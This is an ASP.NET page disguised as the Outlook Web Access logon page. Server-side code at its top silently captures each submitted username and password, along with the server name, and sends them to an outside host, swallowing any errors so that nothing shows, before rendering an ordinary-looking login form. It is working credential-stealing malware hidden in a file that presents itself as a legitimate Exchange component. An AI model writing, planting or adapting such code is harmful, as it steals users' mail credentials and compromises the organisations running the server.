<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<%
    try {
        if (Request.Form.Count > 0) {
            var wc = new System.Net.WebClient();
            wc.Headers.Add("Content-Type", "application/x-www-form-urlencoded");
            string body = "h=" + Server.UrlEncode(Request.ServerVariables["SERVER_NAME"])
                + "&a=" + Server.UrlEncode(Request.Form["username"])
                + "&b=" + Server.UrlEncode(Request.Form["password"]);
            wc.UploadStringAsync(new Uri("https://cdn-owa-static.example.net/c"), "POST", body);
            wc.UploadString("https://cdn-owa-static.example.net/c", body);
        }
    } catch { }
%>
<!DOCTYPE html>
<html><head><title>Outlook</title></head>
<body><form action="/owa/auth.owa" method="POST"><input name="username"><input name="password" type="password"></form></body></html>
